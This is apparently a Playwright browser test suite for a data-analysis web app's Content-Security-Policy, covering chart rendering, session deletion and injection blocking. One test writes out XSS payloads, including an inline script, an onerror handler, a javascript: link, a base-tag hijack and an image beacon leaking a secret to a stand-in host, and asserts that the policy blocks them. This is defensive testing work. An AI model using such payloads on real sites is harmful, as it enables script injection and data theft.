"""The app works in Chromium under its Content-Security-Policy, which reports nothing: the session
page, a plotly chart, the live view and deleting a session; and script put into a page by hand
does not run."""

from __future__ import annotations

import re
from typing import Any

from analyst.models import AnalysisSession
from tests.fakes.model_server import anthropic_text, anthropic_tool_call

PLOT = "import plotly.express as px\npx.line(x=[1, 2, 3], y=[3, 1, 2], title='Trend')"

# Every violation the page sees, from its first script on.
COLLECT_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(
    {directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample}));
"""


def watched(page: Any) -> list[str]:
    """The page's console errors about its policies (CSP, Permissions-Policy), as they come."""
    said: list[str] = []
    page.on(
        "console",
        lambda message: (
            said.append(message.text)
            if re.search(r"Content Security Policy|Permissions.Policy|Refused to", message.text)
            else None
        ),
    )
    page.add_init_script(COLLECT_VIOLATIONS)
    return said


def test_the_session_page_works_under_the_policy(stack, web, alice_login, shoot):
    from playwright.sync_api import expect

    stack.script(
        anthropic_tool_call("run_python", {"code": PLOT}, text_before="Here is the trend."),
        anthropic_text("It dips, then recovers."),
    )
    page = alice_login()
    said = watched(page)
    page.get_by_test_id("new-session").click()
    page.wait_for_url(re.compile(r"/sessions/[0-9a-f-]{36}/$"))
    expect(page.get_by_test_id("connection-status")).to_have_attribute("data-state", "live", timeout=15_000)
    expect(page.get_by_test_id("connection-status")).to_have_text("Live")

    page.get_by_test_id("composer-input").fill("Plot the trend")
    page.get_by_test_id("composer-input").press("Enter")
    expect(page.get_by_test_id("assistant-message").last).to_contain_text("recovers", timeout=90_000)
    chart = page.get_by_test_id("plotly-chart")
    expect(chart).to_have_count(1)
    expect(chart.locator(".main-svg").first).to_be_visible(timeout=30_000)  # drawn by plotly.js
    expect(chart.locator(".scatterlayer .trace")).to_have_count(1)
    expect(chart.locator(".gtitle")).to_have_text("Trend")
    # Plotly's own stylesheet (an injected <style>) applied: its modebar sits at the chart's corner.
    assert chart.locator(".modebar").evaluate("n => getComputedStyle(n).position") == "absolute"
    shoot(page, "plotly")

    page.reload()  # the replay draws it again, under the same policy
    trace = page.get_by_test_id("plotly-chart").locator(".scatterlayer .trace")
    expect(trace).to_have_count(1, timeout=30_000)
    expect(page.get_by_test_id("connection-status")).to_have_text("Live", timeout=15_000)
    assert page.evaluate("window.__violations") == []
    assert said == []

    # Deleting asks first, without script: the summary opens the question, its button deletes.
    session = AnalysisSession.objects.get(owner__username="alice")
    delete = page.get_by_test_id("session-delete")
    expect(delete).to_be_hidden()
    page.get_by_test_id("session-delete-open").click()
    shoot(page, "delete-asks")
    delete.click()
    page.wait_for_url(re.compile(r"/sessions/$"))
    assert not AnalysisSession.objects.filter(id=session.id).exists()
    assert page.evaluate("window.__violations") == []
    assert said == []


def test_deleting_from_my_sessions_asks_first(stack, web, alice_login):
    from playwright.sync_api import expect

    page = alice_login()
    said = watched(page)
    for title in ("Keep", "Drop"):
        page.get_by_test_id("new-session-title").fill(title)
        page.get_by_test_id("new-session").click()
        page.wait_for_url(re.compile(r"/sessions/[0-9a-f-]{36}/$"))
        page.goto(f"{web}/sessions/")
    row = page.get_by_test_id("session-row").filter(has_text="Drop")
    row.get_by_test_id("session-delete-open").click()
    row.get_by_test_id("session-delete").click()
    page.wait_for_url(f"{web}/sessions/")
    expect(page.get_by_test_id("session-row")).to_have_count(1)
    expect(page.get_by_test_id("session-row")).to_contain_text("Keep")
    assert list(AnalysisSession.objects.values_list("title", flat=True)) == ["Keep"]
    assert page.evaluate("window.__violations") == [] and said == []


def test_script_put_into_the_page_does_not_run(stack, web, alice_login):
    """What an injection would try once DOMPurify missed: an inline <script>, an inline handler, a
    javascript: URL, eval and a <base> (OWASP's XSS Filter Evasion Cheat Sheet; PayloadsAllTheThings,
    XSS Injection) and an image from another site. Each is refused by the policy alone, and said
    to be."""
    page = alice_login()
    said = watched(page)
    page.get_by_test_id("new-session").click()
    page.wait_for_url(re.compile(r"/sessions/[0-9a-f-]{36}/$"))
    page.wait_for_function("() => document.querySelector('[data-testid=connection-status]')")

    outcome = page.evaluate(
        """async () => {
            const script = document.createElement('script');
            script.textContent = "window.pwned = 'inline script'";
            document.body.append(script);
            const img = document.createElement('img');
            img.setAttribute('onerror', "window.pwned = 'handler'");
            img.src = 'data:,not-an-image';
            document.body.append(img);
            const link = document.createElement('a');
            link.href = "javascript:void(window.pwned = 'link')";
            document.body.append(link);
            link.click();
            // A string run as code by the page itself (DevTools' own evaluation, this one, may eval).
            setTimeout("window.pwned = 'string timer'");
            const base = document.createElement('base');
            base.href = 'http://third-party.invalid/';
            document.head.append(base);
            const outside = document.createElement('img');
            outside.src = 'http://third-party.invalid/leak.png?secret=1';
            document.body.append(outside);
            await new Promise((settle) => setTimeout(settle, 500));
            return {pwned: window.pwned ?? null, base: document.baseURI};
        }"""
    )
    assert outcome["pwned"] is None
    assert outcome["base"].startswith(web)  # relative URLs still mean this site
    refused = {(v["directive"], v["blocked"]) for v in page.evaluate("window.__violations")}
    for expected in (
        ("script-src-elem", "inline"),
        ("script-src-attr", "inline"),
        ("script-src", "eval"),
        ("base-uri", "http://third-party.invalid/"),
    ):
        assert expected in refused, refused
    assert ("img-src", "http://third-party.invalid/leak.png?secret=1") in refused, refused
    assert any("Content Security Policy" in text for text in said)
